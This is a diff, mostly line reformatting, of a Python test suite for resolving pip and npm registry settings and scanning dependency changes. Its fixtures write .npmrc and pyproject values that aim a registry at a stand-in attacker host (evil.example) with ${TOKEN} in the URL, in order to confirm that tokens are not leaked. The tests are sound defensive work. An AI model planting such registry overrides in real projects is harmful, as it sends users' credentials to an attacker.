@@ -35,7 +35,9 @@ def write(home: Path, name: str, text: str) -> None:
 
 
 def pypi(home: Path, **fields: Any) -> list[str]:
-    return [index.url for index in pypi_settings.endpoints(sources(home, **fields)).indexes]
+    return [
+        index.url for index in pypi_settings.endpoints(sources(home, **fields)).indexes
+    ]
 
 
 def npm(home: Path, **fields: Any) -> str:
@@ -49,7 +51,11 @@ def test_pypi_goes_down_the_places_in_their_order(tmp_path: Path) -> None:
     constant = pypi(tmp_path)
     assert len(constant) == 1
     assert constant[0].endswith("/simple")
-    write(tmp_path, ".config/pip/pip.conf", "[global]\nindex-url = https://user.example/simple\n")
+    write(
+        tmp_path,
+        ".config/pip/pip.conf",
+        "[global]\nindex-url = https://user.example/simple\n",
+    )
     assert pypi(tmp_path) == ["https://user.example/simple"]
     fields: dict[str, Any] = {"files": {b"pyproject.toml": UV}}
     assert pypi(tmp_path, **fields) == ["https://project.example/simple"]
@@ -65,7 +71,9 @@ def test_npm_goes_down_the_places_in_their_order(tmp_path: Path) -> None:
     assert npm(tmp_path).startswith("https://registry.")
     write(tmp_path, ".npmrc", "registry=https://user.example/")
     assert npm(tmp_path) == "https://user.example"
-    fields: dict[str, Any] = {"files": {b".npmrc": b"registry = https://project.example/"}}
+    fields: dict[str, Any] = {
+        "files": {b".npmrc": b"registry = https://project.example/"}
+    }
     assert npm(tmp_path, **fields) == "https://project.example"
     fields["policy"] = {"npm": "https://policy.example"}
     assert npm(tmp_path, **fields) == "https://policy.example"
@@ -77,22 +85,35 @@ def test_npm_goes_down_the_places_in_their_order(tmp_path: Path) -> None:
     ("text", "expected"),
     [
         ("[tool.uv]\nindex-url = 'https://a.example'\n", ["https://a.example"]),
-        ("[[tool.poetry.source]]\nname='p'\nurl='https://a.example'\n", ["https://a.example"]),
-        ("[[tool.pdm.source]]\nname='pypi'\nurl='https://a.example'\n", ["https://a.example"]),
+        (
+            "[[tool.poetry.source]]\nname='p'\nurl='https://a.example'\n",
+            ["https://a.example"],
+        ),
+        (
+            "[[tool.pdm.source]]\nname='pypi'\nurl='https://a.example'\n",
+            ["https://a.example"],
+        ),
     ],
 )
-def test_project_settings_of_each_tool(tmp_path: Path, text: str, expected: list[str]) -> None:
+def test_project_settings_of_each_tool(
+    tmp_path: Path, text: str, expected: list[str]
+) -> None:
     assert pypi(tmp_path, files={b"pyproject.toml": text.encode()}) == expected
 
 
-def test_extra_indexes_count_beside_the_one_that_names_the_index(tmp_path: Path) -> None:
+def test_extra_indexes_count_beside_the_one_that_names_the_index(
+    tmp_path: Path,
+) -> None:
     write(
         tmp_path,
         ".config/pip/pip.conf",
         "[global]\nindex-url = https://u.example\nextra-index-url =\n  https://v.example\n",
     )
     assert pypi(tmp_path) == ["https://u.example", "https://v.example"]
-    environ = {"PIP_INDEX_URL": "https://e.example", "PIP_EXTRA_INDEX_URL": "https://f.example"}
+    environ = {
+        "PIP_INDEX_URL": "https://e.example",
+        "PIP_EXTRA_INDEX_URL": "https://f.example",
+    }
     assert pypi(tmp_path, environ=environ) == ["https://e.example", "https://f.example"]
 
 
@@ -115,12 +136,20 @@ def test_scopes_have_their_registry(tmp_path: Path) -> None:
 def test_variables_are_expanded_in_the_users_files_only(tmp_path: Path) -> None:
     secret = "tok" + "en-of-a-test"
     environ = {"TOKEN": secret}
-    write(tmp_path, ".npmrc", "registry=https://user.example/\n//user.example/:_authToken=${TOKEN}")
+    write(
+        tmp_path,
+        ".npmrc",
+        "registry=https://user.example/\n//user.example/:_authToken=${TOKEN}",
+    )
     endpoints = npm_settings.endpoints(sources(tmp_path, environ=environ))
     assert endpoints.indexes[0].authorization == f"Bearer {secret}"
     assert secret not in repr(endpoints)
-    files = {b".npmrc": b"registry=https://evil.example/${TOKEN}/\n//evil.example/:_authToken=x"}
-    (index,) = npm_settings.endpoints(sources(tmp_path, environ=environ, files=files)).indexes
+    files = {
+        b".npmrc": b"registry=https://evil.example/${TOKEN}/\n//evil.example/:_authToken=x"
+    }
+    (index,) = npm_settings.endpoints(
+        sources(tmp_path, environ=environ, files=files)
+    ).indexes
     assert (index.url, index.authorization) == ("https://evil.example/${TOKEN}", "")
 
 
@@ -135,7 +164,10 @@ def test_a_token_goes_to_its_own_address_only(tmp_path: Path) -> None:
 def test_credentials_in_addresses_and_netrc(tmp_path: Path) -> None:
     environ = {"PIP_INDEX_URL": "https://ada:pw@h.example/simple"}
     (index,) = pypi_settings.endpoints(sources(tmp_path, environ=environ)).indexes
-    assert (index.url, index.authorization) == ("https://h.example/simple", "Basic YWRhOnB3")
+    assert (index.url, index.authorization) == (
+        "https://h.example/simple",
+        "Basic YWRhOnB3",
+    )
     write(tmp_path, ".netrc", "machine n.example login ada password pw\n")
     (tmp_path / ".netrc").chmod(0o600)
     environ = {"PIP_INDEX_URL": "https://n.example/simple"}
@@ -144,7 +176,10 @@ def test_credentials_in_addresses_and_netrc(tmp_path: Path) -> None:
 
 
 def test_what_npm_hands_to_its_scripts_is_the_projects_word(tmp_path: Path) -> None:
-    environ = {"npm_config_registry": "https://evil.example", "npm_lifecycle_event": "commit"}
+    environ = {
+        "npm_config_registry": "https://evil.example",
+        "npm_lifecycle_event": "commit",
+    }
     assert npm(tmp_path, environ=environ) == npm(tmp_path)
 
 
@@ -162,7 +197,10 @@ def test_downloads_are_counted_for_the_default_index_or_where_a_service_is_set(
         service = module.endpoints(sources(tmp_path, environ=environ)).service
         assert service is not None
         assert service.url == "https://counts.example"
-    policy = {"npm": "https://p.example", "npm-downloads": "https://c.example/downloads"}
+    policy = {
+        "npm": "https://p.example",
+        "npm-downloads": "https://c.example/downloads",
+    }
     service = npm_settings.endpoints(sources(tmp_path, policy=policy)).service
     assert service is not None
     assert service.url == "https://c.example"
@@ -178,7 +216,9 @@ def test_broken_settings_are_no_settings(tmp_path: Path) -> None:
     assert pypi(tmp_path, files=files) == pypi(tmp_path)
 
 
-def scan(tmp_path: Path, new: dict[str, str | bytes | None], **fields: Any) -> list[str]:
+def scan(
+    tmp_path: Path, new: dict[str, str | bytes | None], **fields: Any
+) -> list[str]:
     values = {"environ": {"HOME": str(tmp_path)}, **fields}
     run = SCANNER.scan(change_of(new), context(RULES, tmp_path, **values))
     return [finding.message for finding in run.findings]
@@ -189,7 +229,9 @@ def test_nothing_is_sent_to_a_host_that_the_change_brings(tmp_path: Path) -> Non
     with Registry() as evil, Registry() as own:
         own.npm("tidepool-box")
         own.pypi("tidepool-kit")
-        npmrc = f"registry={evil.url}/npm/${{TOKEN}}/\n//127.0.0.1/:_authToken=${{TOKEN}}\n"
+        npmrc = (
+            f"registry={evil.url}/npm/${{TOKEN}}/\n//127.0.0.1/:_authToken=${{TOKEN}}\n"
+        )
         uv = f'[[tool.uv.index]]\nname = "e"\nurl = "{evil.pypi_url}"\ndefault = true\n'
         environ = {"HOME": str(tmp_path), "TOKEN": "abc", **own.environment()}
         messages = scan(
@@ -246,7 +288,9 @@ def test_plain_http_is_for_loopback_or_for_the_user(
 
     monkeypatch.setattr(socket, "getaddrinfo", unknown)
     trusted = {b".npmrc": b"registry=http://registry.invalid/\n"}
-    new: dict[str, str | bytes | None] = {"package.json": '{"dependencies": {"tidepool-box": "1"}}'}
+    new: dict[str, str | bytes | None] = {
+        "package.json": '{"dependencies": {"tidepool-box": "1"}}'
+    }
     (message,) = scan(tmp_path, new, trusted_file=trusted.get)
     assert "plain http" in message
     environ = {"HOME": str(tmp_path), "npm_config_registry": "http://registry.invalid/"}
@@ -254,7 +298,9 @@ def test_plain_http_is_for_loopback_or_for_the_user(
     assert "does not resolve" in message
 
 
-def test_credentials_go_to_their_own_server_and_not_into_the_cache(tmp_path: Path) -> None:
+def test_credentials_go_to_their_own_server_and_not_into_the_cache(
+    tmp_path: Path,
+) -> None:
     with Registry() as registry:
         registry.pypi("tidepool-kit")
         host = registry.pypi_url.replace("http://", "http://ada:pw-of-a-test@")
